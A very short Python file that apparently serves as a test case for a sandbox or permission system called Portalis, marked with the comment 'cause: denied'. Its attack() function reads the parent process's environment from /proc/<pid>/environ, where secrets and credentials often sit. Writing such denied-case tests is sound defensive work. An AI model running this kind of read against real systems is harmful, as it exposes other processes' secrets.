"""Reads the environment of Portalis."""
# cause: denied

import aims


def attack():
    aims.took(open(f"/proc/{aims.PARENT}/environ").read())
